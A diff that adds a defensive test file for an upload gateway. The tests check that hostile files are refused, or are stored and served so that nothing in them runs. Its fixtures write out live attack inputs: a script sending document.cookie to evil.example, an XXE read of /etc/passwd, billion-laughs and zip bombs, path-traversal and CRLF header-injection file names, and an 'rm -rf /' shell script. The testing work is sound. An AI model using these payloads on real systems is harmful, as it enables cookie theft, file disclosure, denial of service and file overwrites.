@@ -1,0 +1,189 @@
+import { readdir } from 'node:fs/promises';
+import { gzipSync } from 'node:zlib';
+import { sql } from 'drizzle-orm';
+import { expect, test } from 'vitest';
+import { rows } from '../../gateway/db/client.ts';
+import { appForTest, multipart } from '../support/app.ts';
+import { aPdf } from './support/bytes.ts';
+import { DOCX, XLSX, zip } from './support/zip.ts';
+
+const GIGABYTE = 1024 ** 3;
+const pdf = aPdf(500);
+const png = Buffer.from(
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
+  'base64',
+);
+const jpeg = Buffer.from('ffd8ffe000104a46494600010100000100010000ffdb004300', 'hex');
+const text = (value: string) => Buffer.from(value);
+const script = '<script>fetch("//evil.example/"+document.cookie)</script>';
+const types = { name: '[Content_Types].xml', bytes: DOCX };
+const sheet = { name: '[Content_Types].xml', bytes: XLSX };
+const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');
+
+/** What no gateway should keep: kind, name, bytes. */
+const REFUSED: readonly (readonly [what: string, name: string, bytes: Buffer])[] = [
+  ['nothing at all', 'vazio.pdf', Buffer.alloc(0)],
+  ['one byte', 'um.pdf', Buffer.from([0x25])],
+  ['one byte of a PNG', 'um.png', png.subarray(0, 1)],
+  ['zeros', 'zeros.pdf', Buffer.alloc(4096)],
+  ['text called PDF', 'texto.pdf', text('this is no document')],
+  ['text', 'texto.txt', text('this is no document')],
+  ['a PNG called PDF', 'foto.pdf', png],
+  ['a PDF called PNG', 'documento.png', pdf],
+  ['a PDF called DOCX', 'documento.docx', pdf],
+  ['a PDF called HTML', 'documento.html', pdf],
+  ['a PDF without extension', 'documento', pdf],
+  ['a PDF called EXE', 'documento.pdf.exe', pdf],
+  ['HTML', 'pagina.html', text(`<!doctype html><html>${script}</html>`)],
+  ['HTML called PDF', 'pagina.pdf', text(`<!doctype html><html>${script}</html>`)],
+  ['HTML called XML', 'pagina.xml', text(`<html>${script}</html>`)],
+  ['HTML called XML, in capitals', 'pagina.xml', text(`<HTML><BODY>${script}</BODY></HTML>`)],
+  ['XHTML', 'pagina.xml', text(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`)],
+  ['SVG with a script', 'desenho.svg', text(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`)],
+  [
+    'SVG called XML',
+    'desenho.xml',
+    text(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
+  ],
+  ['SVG called PNG', 'desenho.png', text(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`)],
+  [
+    'XML with a stylesheet',
+    'nota.xml',
+    text('<?xml version="1.0"?><?xml-stylesheet href="//evil.example/x.xsl"?><a/>'),
+  ],
+  [
+    'XML with an outside entity',
+    'nota.xml',
+    text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
+  ],
+  ['a billion laughs', 'nota.xml', text(`<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "ha">${laughs}]><l>&l9;</l>`)],
+  [
+    'XML whose doctype hides behind spaces',
+    'nota.xml',
+    text(`<?xml version="1.0"?>${' '.repeat(5000)}<!DOCTYPE a><a/>`),
+  ],
+  [
+    'XML that calls itself HTML later',
+    'nota.xml',
+    text(`<nota>${' '.repeat(5000)}<h:html xmlns:h="http://www.w3.org/1999/xhtml"/></nota>`),
+  ],
+  ['a stylesheet', 'estilo.xml', text('<xsl:stylesheet version="1.0"><xsl:template match="/"/></xsl:stylesheet>')],
+  ['JSON called XML', 'dados.xml', text('{"a":1}')],
+  ['a ZIP', 'arquivos.zip', zip([{ name: 'a.txt', bytes: text('a') }])],
+  ['a ZIP called DOCX', 'arquivos.docx', zip([{ name: 'a.txt', bytes: text('a') }])],
+  ['a ZIP with a way out', 'fuga.docx', zip([{ name: '../../../../tmp/prumo-evil', bytes: text('a') }])],
+  ['a DOCX called XLSX', 'texto.xlsx', zip([types])],
+  ['an XLSX called PDF', 'tabela.pdf', zip([sheet])],
+  ['a bomb where the type is read', 'bomba.docx', zip([{ name: '[Content_Types].xml', zeros: GIGABYTE }])],
+  ['a bomb called PDF', 'bomba.pdf', zip([{ name: 'a', zeros: GIGABYTE }])],
+  ['GZIP', 'arquivo.gz', gzipSync(Buffer.alloc(1_000_000))],
+  ['GZIP called PDF', 'arquivo.pdf', gzipSync(Buffer.alloc(1_000_000))],
+  ['HEIC', 'foto.heic', Buffer.concat([Buffer.from('00000018667479706865696300000000', 'hex'), text('mif1heic')])],
+  [
+    'HEIC called JPEG',
+    'foto.jpg',
+    Buffer.concat([Buffer.from('00000018667479706865696300000000', 'hex'), text('mif1heic')]),
+  ],
+  ['GIF with a script', 'foto.gif', text(`GIF89a/*${script}*/=1;`)],
+  ['GIF called JPEG', 'foto.jpg', text(`GIF89a/*${script}*/=1;`)],
+  ['an EXE', 'programa.exe', Buffer.concat([text('MZ'), Buffer.alloc(200)])],
+  ['an EXE called PDF', 'programa.pdf', Buffer.concat([text('MZ'), Buffer.alloc(200)])],
+  ['an ELF called PDF', 'programa.pdf', Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(200)])],
+  ['a shell script', 'programa.sh', text('#!/bin/sh\nrm -rf /\n')],
+  ['an old DOC', 'texto.doc', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)])],
+  ['RTF called DOCX', 'texto.docx', text('{\\rtf1 hello}')],
+  ['a name of dots', '..', pdf],
+  ['a name of an extension alone', '.pdf', pdf],
+  ['a name longer than any', `${'a'.repeat(300)}.pdf`, pdf],
+];
+
+/** What is a document of its kind, and wicked: kept, but served so that nothing of it runs. */
+const KEPT: readonly (readonly [what: string, name: string, bytes: Buffer])[] = [
+  ['PDF and HTML in one', 'dois.pdf', Buffer.concat([pdf, text(`<html>${script}</html>`)])],
+  [
+    'PDF with a script of its own',
+    'acao.pdf',
+    Buffer.concat([pdf, text('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')]),
+  ],
+  ['a PNG that is cut off', 'cortado.png', png.subarray(0, 40)],
+  ['a JPEG with HTML behind it', 'foto.jpg', Buffer.concat([jpeg, text(`<html>${script}</html>`)])],
+  ['a DOCX that would unpack to 3 GB', 'bomba.docx', zip([types, { name: 'word/a.xml', zeros: 3 * GIGABYTE }])],
+  ['an XLSX that would unpack to 3 GB', 'bomba.xlsx', zip([sheet, { name: 'xl/a.xml', zeros: 3 * GIGABYTE }])],
+  ['a way out of the folder', '../../../../tmp/prumo-evil.pdf', pdf],
+  ['a way out, of Windows', '..\\..\\windows\\prumo-evil.pdf', pdf],
+  ['an absolute path', '/etc/cron.d/prumo-evil.pdf', pdf],
+  ['a drive', 'C:\\prumo-evil.pdf', pdf],
+  ['a name of a device', 'CON.pdf', pdf],
+  ['a name with a script', '<img src=x onerror=alert(1)>.pdf', pdf],
+  ['a name that reads backwards', 'relat\u202efdp.exe.pdf', pdf],
+  ['a name with NUL', 'a\u0000b.pdf', pdf],
+  ['a name with accents and signs', 'ação ‘é’ 100% ; x=y.pdf', pdf],
+];
+
+test('S5 hostile files are refused, or kept and served so that nothing of them runs', {
+  timeout: 120_000,
+}, async () => {
+  expect(REFUSED.length + KEPT.length).toBeGreaterThanOrEqual(40);
+  const app = await appForTest();
+  const pendencyId = await app.build.aPendency();
+  const before = process.memoryUsage().rss;
+  let peak = before;
+  const send = async (name: string, bytes: Buffer, contentType = 'application/pdf') => {
+    const body = multipart([{ name, bytes, contentType }], { issueDate: '2026-01-10' });
+    const reply = await app.as('supplier', { method: 'POST', url: `/pendencies/${pendencyId}/documents`, ...body });
+    peak = Math.max(peak, process.memoryUsage().rss);
+    return reply;
+  };
+
+  const taken: string[] = [];
+  for (const [what, name, bytes] of REFUSED) {
+    const { statusCode } = await send(name, bytes);
+    if (statusCode < 400 || statusCode >= 500) taken.push(`${what}: ${statusCode}`);
+  }
+  expect(taken).toEqual([]);
+  expect(await readdir(`${app.dataDir}/files`, { recursive: true })).toEqual(['.staging']);
+
+  for (const [what, name, bytes] of KEPT) {
+    const reply = await send(name, bytes, 'text/html');
+    expect(reply.statusCode, what).toBe(201);
+    const [document] = reply.json<{ id: number; name: string }[]>();
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: none may be left
+    expect(document?.name, what).not.toMatch(/[/\\\u0000-\u001f\u202a-\u202e<>"]/);
+    for (const disposition of ['attachment', 'inline']) {
+      const url = `/documents/${document?.id}/download?disposition=${disposition}`;
+      const { headers, statusCode } = await app.as('supplier', { method: 'GET', url });
+      expect(statusCode, what).toBe(200);
+      const type = String(headers['content-type']);
+      // Only what a browser shows by itself, and never as a page, may be shown in it.
+      const mayBeShown = disposition === 'inline' && /^(application\/pdf|image\/(png|jpeg))$/.test(type);
+      expect(String(headers['content-disposition']).split(';')[0], what).toBe(mayBeShown ? 'inline' : 'attachment');
+      expect(type, what).not.toMatch(/html|svg|javascript/);
+      expect(headers['x-content-type-options'], what).toBe('nosniff');
+      expect(headers['content-security-policy'], what).toBe("default-src 'none'; sandbox");
+      expect(headers['content-disposition'], what).not.toMatch(/[\r\n]/);
+    }
+  }
+
+  // The bytes stand under names of ours alone.
+  const stored = await readdir(`${app.dataDir}/files/documents`);
+  expect(stored).toHaveLength(KEPT.length);
+  expect(stored.filter((name) => !/^[0-9a-f-]{36}$/.test(name))).toEqual([]);
+  const known = await rows<{ n: number }>(app.db, sql`select count(*)::int as n from documents`);
+  expect(known[0]?.n).toBe(KEPT.length);
+  expect(peak - before).toBeLessThan(200 * 1024 * 1024);
+});
+
+test('S5 a name that would write headers of its own harms nothing', async () => {
+  const app = await appForTest();
+  const id = await app.build.aPendency();
+  for (const name of ['a\r\nSet-Cookie: x=y\r\n\r\n.pdf', 'a".pdf"; filename="b.exe', 'a\nb.pdf']) {
+    const body = multipart([{ name, bytes: pdf }], { issueDate: '2026-01-10' });
+    const reply = await app.as('supplier', { method: 'POST', url: `/pendencies/${id}/documents`, ...body });
+    expect(reply.statusCode).toBeLessThan(500);
+    for (const document of reply.statusCode === 201 ? reply.json<{ id: number }[]>() : []) {
+      const { headers } = await app.as('supplier', { method: 'GET', url: `/documents/${document.id}/download` });
+      expect(headers['set-cookie']).toBeUndefined();
+      expect(headers['content-disposition']).toMatch(/^attachment; filename="[^"\r\n]*"; filename\*=UTF-8''[^"\r\n]*$/);
+    }
+  }
+});
